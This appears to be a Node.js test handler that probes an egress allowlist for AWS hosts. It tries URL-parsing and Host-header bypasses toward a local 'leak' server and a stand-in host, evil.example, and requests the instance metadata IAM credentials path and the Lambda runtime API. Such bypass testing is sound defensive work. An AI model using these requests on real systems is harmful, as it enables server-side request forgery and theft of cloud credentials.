import http from 'node:http';
import { attempts } from './attempts.mjs';
const { port } = new URL(process.env.LEAK);
const get = (address) => new Promise((resolve, reject) => http.get(address, resolve).on('error', reject));
const request = (options) => new Promise((resolve, reject) => http.request(options, resolve).on('error', reject).end());
/** The cloud answers, and it is the cloud. */
const said = (response) => { if (response.statusCode === 200) return response.statusCode; throw new Error(`the cloud answers ${response.statusCode}`); };
const LEAK = process.env.LEAK;
export const handler = () => attempts({
  user: () => get(`http://s3.amazonaws.com@127.0.0.1:${port}/leak/user`),
  suffix: () => get('https://s3.amazonaws.com.evil.example/leak'),
  prefix: () => get('https://evilamazonaws.com/leak'),
  encoded: () => get(`http://127.0.0.1:${port}%23.amazonaws.com/leak`),
  option: () => request({ host: '127.0.0.1', port, path: '/leak/option', headers: { host: 's3.amazonaws.com' } }),
  absolute: () => request({ host: 's3.us-east-1.amazonaws.com', path: `${LEAK}/absolute` }).then(said),
  doubled: () => request({ host: 's3.us-east-1.amazonaws.com', path: `//127.0.0.1:${port}/leak/doubled` }).then(said),
  header: () => request({ host: 's3.us-east-1.amazonaws.com', headers: { host: `127.0.0.1:${port}` } }).then(said),
  metadata: () => get('http://169.254.169.254/latest/meta-data/iam/security-credentials/'),
  runtimeApi: () => get(`http://${process.env.AWS_LAMBDA_RUNTIME_API}/2018-06-01/runtime/invocation/next`),
});
